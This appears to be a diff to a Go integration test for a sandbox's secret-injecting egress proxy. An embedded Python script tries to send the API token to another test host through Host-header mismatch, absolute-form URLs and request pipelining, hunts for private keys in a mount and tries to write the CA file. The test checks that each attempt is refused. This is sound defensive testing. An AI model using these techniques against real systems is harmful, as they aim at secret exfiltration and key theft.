@@ -86,6 +86,45 @@ except OSError:
 print(json.dumps(out))
 `
 
+// egressSecretAttacks runs in the sandbox: requests over TLS to api.inject.test (the
+// injection host) that try to get the secret sent elsewhere, and reads for the CA key.
+const egressSecretAttacks = `
+import json, os, socket, ssl
+ph = os.environ["API_TOKEN"]
+ctx = ssl.create_default_context()
+def raw(reqs):
+    s = ctx.wrap_socket(socket.create_connection(("api.inject.test", 443), timeout=20), server_hostname="api.inject.test")
+    s.sendall(reqs.encode())
+    data = b""
+    while True:
+        try:
+            b = s.recv(65536)
+        except OSError:
+            break
+        if not b:
+            break
+        data += b
+    s.close()
+    return data.decode(errors="replace")
+out = {}
+out["host mismatch"] = raw("GET /echo HTTP/1.1\r\nHost: other.inject.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % ph)[:40]
+out["absolute form"] = raw("GET https://other.inject.test/echo HTTP/1.1\r\nHost: api.inject.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % ph)[:40]
+r = raw("GET /echo HTTP/1.1\r\nHost: api.inject.test\r\n\r\nGET /echo HTTP/1.1\r\nHost: other.inject.test\r\nAuthorization: Bearer %s\r\n\r\n" % ph)
+out["second request other host"] = r[r.find("HTTP/1.1", 10):][:40]
+found = []
+for root, dirs, files in os.walk("/etc/sandboxd-egress"):
+    for f in files:
+        if b"PRIVATE KEY" in open(os.path.join(root, f), "rb").read():
+            found.append(f)
+out["key in mount"] = ",".join(found) or "none"
+try:
+    open("/etc/sandboxd-egress/ca.pem", "a").write("x")
+    out["write mount"] = "written"
+except OSError as e:
+    out["write mount"] = "refused: %s" % e.strerror
+print(json.dumps(out))
+`
+
 // TestEgressSecretInjection (docs/secrets.md, "Secrets that never enter the sandbox"):
 // a sandbox whose rule attaches a store secret to api.inject.test gets a placeholder;
 // the server there (in a network namespace of its own) sees the real value in
@@ -99,7 +138,7 @@ func TestEgressSecretInjection(t *testing.T) {
 	in.SetA("api.inject.test", apiIP)
 	in.SetA("other.inject.test", otherIP)
 	in.ServeHTTPS(t, apiIP, "api.inject.test")
-	in.ServeHTTPS(t, otherIP, "other.inject.test")
+	otherSrv := in.ServeHTTPS(t, otherIP, "other.inject.test")
 
 	dir := t.TempDir()
 	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
@@ -233,6 +272,30 @@ func TestEgressSecretInjection(t *testing.T) {
 	}
 	if e := string(envx.Msg.GetStdout()); strings.Contains(e, value) || !strings.Contains(e, "API_TOKEN="+out.Placeholder) {
 		t.Errorf("environment:\n%s", e)
+	}
+	// Attacks from inside (see also test/security TestEgressSecretAttacks): the TLS
+	// server name of the injection host with another Host, or a URL naming another host,
+	// is refused before anything reaches a server; the CA's key is nowhere to be read.
+	before := otherSrv.Conns()
+	attack, err := g.sandboxes.Exec(ctx, connect.NewRequest(&sandboxv1.ExecRequest{SandboxId: id, Command: []string{"python3", "-c", egressSecretAttacks}}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var atk map[string]string
+	if err := json.Unmarshal([]byte(strings.TrimSpace(string(attack.Msg.GetStdout()))), &atk); err != nil {
+		t.Fatalf("attack output %q (stderr %q): %v", attack.Msg.GetStdout(), attack.Msg.GetStderr(), err)
+	}
+	t.Logf("attacks: %v", atk)
+	for k, want := range map[string]string{
+		"host mismatch": "HTTP/1.1 421", "absolute form": "HTTP/1.1 400", "second request other host": "HTTP/1.1 421",
+		"key in mount": "none", "write mount": "refused",
+	} {
+		if !strings.HasPrefix(atk[k], want) {
+			t.Errorf("%s: got %q, want %q…", k, atk[k], want)
+		}
+	}
+	if n := otherSrv.Conns(); n != before {
+		t.Errorf("other.inject.test got %d connections from the attacks", n-before)
 	}
 	// The audit log: a use, never the value.
 	auditPath := filepath.Join(stackDir, "network", network.AuditFile)
